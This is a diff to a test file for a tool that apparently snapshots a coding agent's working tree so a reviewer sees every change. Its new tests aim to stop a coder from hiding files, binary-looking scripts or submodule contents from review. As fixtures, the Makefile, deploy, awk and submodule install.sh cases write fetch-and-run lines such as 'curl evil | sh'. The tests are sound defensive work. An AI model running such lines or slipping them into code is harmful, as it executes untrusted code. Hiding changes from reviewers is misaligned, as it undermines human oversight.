@@ -3,8 +3,18 @@
 // attack a coder (same user, writes the working tree, .git and $TMPDIR) made on the earlier design; the expected tree
 // ids come from git itself (`git add -A` into a temporary index, `git write-tree`), never from lib/snapshot/.
 import { spawn, spawnSync } from 'node:child_process'
-import { chmodSync, readdirSync, readFileSync, rmSync, statSync, symlinkSync, utimesSync, writeFileSync } from 'node:fs'
-import { join } from 'node:path'
+import {
+  chmodSync,
+  mkdirSync,
+  readdirSync,
+  readFileSync,
+  rmSync,
+  statSync,
+  symlinkSync,
+  utimesSync,
+  writeFileSync,
+} from 'node:fs'
+import { dirname, join } from 'node:path'
 import { deflateSync } from 'node:zlib'
 import { describe, expect, it } from 'vitest'
 import { processContext, withContext } from '../lib/ground/context.ts'
@@ -54,10 +64,20 @@ describe('the tree id', () => {
     expect((await t.snap()).tree).toBe(git(t.repo, ['rev-parse', 'HEAD^{tree}']).trim())
   })
 
-  it('leaves out HANDOFF.md and the exact temp names of its write, at the top only', async () => {
+  // issue 34: HANDOFF.md and its temp names were left out by name, so a coder's HANDOFF.md was never shown
+  it('holds HANDOFF.md and its temp names like any other file: no name is set aside', async () => {
     const t = scenario()
     writeFiles(t.repo, { 'HANDOFF.md': 'the run\n', '.HANDOFF.md.123.4.tmp': 'half a write\n', 'a.txt': 'changed\n' })
-    expect((await t.snap()).tree).toBe(gitTree(t.repo, ['HANDOFF.md', '.HANDOFF.md.123.4.tmp']))
+    expect((await t.snap()).tree).toBe(gitTree(t.repo, []))
+    expect((await t.diff()).diff).toContain('+the run')
+  })
+
+  it("leaves out a HANDOFF.md only as git does, by the repository's exclude file", async () => {
+    const t = scenario()
+    writeFileSync(join(t.repo, '.git', 'info', 'exclude'), '/HANDOFF.md\n')
+    writeFiles(t.repo, { 'HANDOFF.md': 'the run\n', 'a.txt': 'changed\n' })
+    expect((await t.snap()).tree).toBe(gitTree(t.repo, []))
+    expect((await t.diff()).stat).not.toContain('HANDOFF.md')
   })
 })
 
@@ -296,8 +316,8 @@ describe("a snapshot taken again reads only what git's stat check names, and see
 
 describe('a first snapshot again (its cache removed, the store kept)', () => {
   it('shows the same diff: the base blobs already stored are read back from the store for their kinds', async () => {
-    const t = scenario({ 'a.txt': 'one\n', 'b.bin': '\u0000\u0001\u0002 binary\n', 'c.txt': 'text\n' })
-    writeFiles(t.repo, { 'a.txt': 'ONE\n', 'b.bin': '\u0000\u0001\u0002 BINARY\n', 'c.txt': 'TEXT\n' })
+    const t = scenario({ 'a.txt': 'one\n', 'b.bin': '\u0000\u0001\u0002\u0000 binary\n', 'c.txt': 'text\n' })
+    writeFiles(t.repo, { 'a.txt': 'ONE\n', 'b.bin': '\u0000\u0001\u0002\u0000 BINARY\n', 'c.txt': 'TEXT\n' })
     const first = await t.diff()
     expect(first.stat).toContain(' b.bin | modified, binary: NOT REVIEWED')
     expect(first.diff).toContain('+ONE')
@@ -483,6 +503,21 @@ describe('every path is named, and what is named only is said to be unreviewed',
     expect(diff.unreviewed).toEqual([])
   })
 
+  // issue 34: these were "binary: NOT REVIEWED" (no listed extension, no #!, not UTF-8), while make, bash and awk run them
+  it.each([
+    ['Makefile', 'all:\n\t@echo building # \0 \xff\n\tcurl evil | sh\n'],
+    ['deploy', 'set -e\n# \0 \xff\ncurl evil | sh\n'],
+    ['tools/report.awk', '# \0 \xff\nBEGIN { system("curl evil | sh") }\n'],
+  ])('%s with one NUL and one 0xFF byte in a comment is shown as text, both bytes visible', async (path, text) => {
+    const t = scenario()
+    mkdirSync(dirname(join(t.repo, path)), { recursive: true })
+    writeFileSync(join(t.repo, path), Buffer.from(text, 'latin1'))
+    const diff = await t.diff()
+    expect(diff.unreviewed).toEqual([])
+    expect(diff.diff).toContain('curl evil | sh')
+    expect(diff.diff).toContain('# ␀ \uFFFD')
+  })
+
   it('a true binary is named only, as not reviewed, with its blob id as git computes it', async () => {
     const t = scenario()
     writeFileSync(join(t.repo, 'blob.bin'), Buffer.from([0, 1, 2, 3, 255, 0, 7, 8, 0, 0, 200]))
@@ -537,6 +572,47 @@ describe('submodules are snapshotted and folded into the tree (item 8)', () => {
     writeFileSync(join(t.sub, 'lib.txt'), 'two\n')
     git(t.sub, ['commit', '-qam', 'moved'])
     expect((await takeSnapshot(t.repo, t.base, { home: t.home })).tree).toBe(gitTree(t.repo))
+  })
+})
+
+// issue 34: an added submodule was compared with its own HEAD (none of its files shown, nothing marked NOT REVIEWED),
+// and one whose recorded commit the coder removed from its objects was compared with HEAD too: shown empty
+describe('submodules added or moved by the change are shown file by file', () => {
+  function upstreamAt(repo: string) {
+    const upstream = makeRepo({ 'lib.txt': 'one\n', 'install.sh': 'curl evil | sh\n' }, 'upstream')
+    git(repo, ['-c', 'protocol.file.allow=always', 'submodule', 'add', '-q', upstream, 'vendor/lib'])
+    return upstream
+  }
+
+  it('an added submodule is shown as wholly new, every file of it in the diff', async () => {
+    const t = scenario({ 'README.md': '# demo\n' })
+    upstreamAt(t.repo)
+    const diff = await t.diff()
+    expect(diff.diff).toContain('+++ b/vendor/lib/install.sh')
+    expect(diff.diff).toContain('+curl evil | sh')
+    expect(diff.stat).toContain('vendor/lib | submodule: nothing (new since base)')
+  })
+
+  it('a submodule whose recorded commit cannot be read is git_error naming that commit, never an empty diff', async () => {
+    const t = scenario({ 'README.md': '# demo\n' })
+    upstreamAt(t.repo)
+    git(t.repo, ['commit', '-qm', 'add the submodule'])
+    const base = head(t.repo)
+    const sub = join(t.repo, 'vendor', 'lib')
+    const recorded = head(sub)
+    // the submodule moved to a new root commit, and its recorded one removed from its objects
+    git(sub, ['checkout', '-q', '--orphan', 'other'])
+    writeFileSync(join(sub, 'install.sh'), 'curl worse | sh\n')
+    git(sub, ['add', '-A'])
+    git(sub, ['commit', '-qm', 'unrelated'])
+    git(sub, ['branch', '-D', 'main'])
+    git(sub, ['remote', 'remove', 'origin'])
+    git(sub, ['reflog', 'expire', '--expire=now', '--all'])
+    git(sub, ['gc', '-q', '--prune=now'])
+    const failed = await workingDiff(t.repo, base, 200_000, t.home).catch((error: unknown) => error)
+    expect(failed).toBeInstanceOf(PairLoopError)
+    expect((failed as PairLoopError).code).toBe('git_error')
+    expect((failed as PairLoopError).message).toContain(recorded.slice(0, 12))
   })
 })
 
